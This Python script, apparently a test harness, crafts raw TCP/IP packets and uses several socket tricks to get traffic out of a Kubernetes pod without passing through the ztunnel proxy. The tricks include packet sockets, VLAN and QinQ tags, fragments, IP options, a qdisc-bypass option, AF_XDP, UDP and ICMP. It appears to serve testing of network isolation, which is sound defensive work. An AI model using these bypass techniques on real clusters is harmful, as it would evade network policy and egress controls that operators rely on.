"""Tries to get TCP out of a pod without ztunnel. attack.py KIND SOURCE DESTINATION PORT SOURCE-PORT INTERFACE"""
import json, socket, struct, sys

kind, source, destination, port, source_port, interface = sys.argv[1:7]
port, SPORT = int(port), int(source_port)
SYN, ACK_PSH, RST, ACK = 0x02, 0x18, 0x04, 0x10
V6 = ":" in source


def packed(address):
    return socket.inet_pton(socket.AF_INET6 if V6 else socket.AF_INET, address)


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def tcp(flags, payload=b""):
    header = struct.pack("!HHIIBBHHH", SPORT, port, 1000, 0, 5 << 4, flags, 65535, 0, 0)
    length = len(header) + len(payload)
    if V6:
        pseudo = packed(source) + packed(destination) + struct.pack("!IHBB", length, 0, 0, 6)
    else:
        pseudo = packed(source) + packed(destination) + struct.pack("!BBH", 0, 6, length)
    return header[:16] + struct.pack("!H", checksum(pseudo + header + payload)) + header[18:] + payload


def ip(body, protocol=6, fragment=0, total=None, options=b""):
    if V6:
        return struct.pack("!IHBB", 6 << 28, len(body), protocol, 64) + packed(source) + packed(destination) + body
    words = 5 + len(options) // 4
    header = struct.pack("!BBHHHBBH4s4s", 4 << 4 | words, 0, words * 4 + len(body) if total is None else total,
                         1, fragment, 64, protocol, 0, packed(source), packed(destination)) + options
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + body


def frame(body, ethertype, kind=socket.SOCK_DGRAM):
    sock = socket.socket(socket.AF_PACKET, kind, 0)
    if kind == socket.SOCK_RAW:
        body = b"\xff" * 6 + b"\x02" * 6 + body
        sock.sendto(body, (interface, 0x0800, 0, 1, b"\xff" * 6))
    else:
        sock.sendto(body, (interface, ethertype, 0, 1, b"\xff" * 6))


def raw(body, protocol):
    sock = socket.socket(socket.AF_INET6 if V6 else socket.AF_INET, socket.SOCK_RAW, protocol)
    sock.sendto(body, (destination, 0))


ETHERTYPE = 0x86DD if V6 else 0x0800
DATA = b"PLAINTEXT" * 4
attacks = {
    "raw-syn": lambda: raw(tcp(SYN), 6),
    "raw-header": lambda: raw(ip(tcp(SYN)), 255),
    "raw-data": lambda: raw(tcp(ACK_PSH, DATA), 6),
    "raw-reset": lambda: raw(tcp(RST), 6),
    "packet-syn": lambda: frame(ip(tcp(SYN)), ETHERTYPE),
    "packet-data": lambda: frame(ip(tcp(ACK_PSH, DATA)), ETHERTYPE),
    "packet-raw-data": lambda: frame(struct.pack("!H", ETHERTYPE) + ip(tcp(ACK_PSH, DATA)), 0, socket.SOCK_RAW),
    # The kernel is told another ethertype than the frame carries.
    "packet-vlan": lambda: frame(struct.pack("!HHH", 0x8100, 5, ETHERTYPE) + ip(tcp(ACK_PSH, DATA)), 0, socket.SOCK_RAW),
    "packet-qinq": lambda: frame(struct.pack("!HHH", 0x88A8, 5, ETHERTYPE) + ip(tcp(ACK_PSH, DATA)), 0, socket.SOCK_RAW),
    "packet-unknown": lambda: frame(DATA, 0x88B5),
    "packet-length-lie": lambda: frame(ip(tcp(ACK, DATA), total=0), ETHERTYPE),
    "packet-options": lambda: frame(ip(tcp(ACK_PSH, DATA), options=b"\x01\x01\x01\x00"), ETHERTYPE),
    "packet-hop-by-hop": lambda: frame(ip(struct.pack("!BBHI", 6, 0, 0x0104, 0) + tcp(ACK_PSH, DATA), 0), ETHERTYPE),
    "packet-destination-options": lambda: frame(
        ip(struct.pack("!BBHI", 6, 0, 0x0104, 0) + tcp(ACK_PSH, DATA), 60), ETHERTYPE),
}




def bypass():
    """A packet socket that skips the queueing discipline, and with it every hook of tc."""
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0)
    sock.setsockopt(263, 20, 1)
    sock.sendto(ip(tcp(ACK_PSH, DATA)), (interface, ETHERTYPE, 0, 1, b"\xff" * 6))


def xdp_ring():
    """AF_XDP writes to the device's queue; its transmit ring is asked for by an option."""
    socket.socket(44, socket.SOCK_RAW, 0).setsockopt(283, 3, 64)


def long_option():
    """Longer than a page, as iptables' are; the kernel's own answer is ENOPROTOOPT."""
    socket.socket().setsockopt(socket.IPPROTO_TCP, 9999, bytes(20000))


def udp():
    sock = socket.socket(socket.AF_INET6 if V6 else socket.AF_INET, socket.SOCK_DGRAM)
    sock.sendto(DATA, (destination, port))


def echo():
    """An ICMP echo request; fails when no answer comes."""
    sock = socket.socket(socket.AF_INET6 if V6 else socket.AF_INET, socket.SOCK_RAW, 58 if V6 else 1)
    sock.settimeout(2)
    request = struct.pack("!BBHHH", 128 if V6 else 8, 0, 0, 7, 1) + DATA
    if not V6:
        request = request[:2] + struct.pack("!H", checksum(request)) + request[4:]
    sock.sendto(request, (destination, 0))
    while True:
        answer, peer = sock.recvfrom(2048)
        answer = answer if V6 else answer[20:]
        if peer[0] == destination and answer[0] == (129 if V6 else 0):
            return


def fragments():
    whole = tcp(SYN) + DATA
    if V6:
        for offset, more, part in ((0, 1, whole[:8]), (1, 0, whole[8:])):
            frame(ip(struct.pack("!BBHI", 6, 0, offset << 3 | more, 7) + part, 44), ETHERTYPE)
    else:
        frame(ip(whole[:8], fragment=0x2000), ETHERTYPE)
        frame(ip(whole[8:], fragment=1), ETHERTYPE)


attacks["packet-fragments"] = fragments
attacks["udp"] = udp
attacks["xdp-ring"] = xdp_ring
attacks["long-option"] = long_option
attacks["packet-bypass"] = bypass
attacks["echo"] = echo
attacks["raw-ack"] = lambda: raw(tcp(ACK), 6)
try:
    attacks[kind]()
    print(json.dumps({"sent": True}))
except OSError as error:
    print(json.dumps({"sent": False, "error": type(error).__name__}))
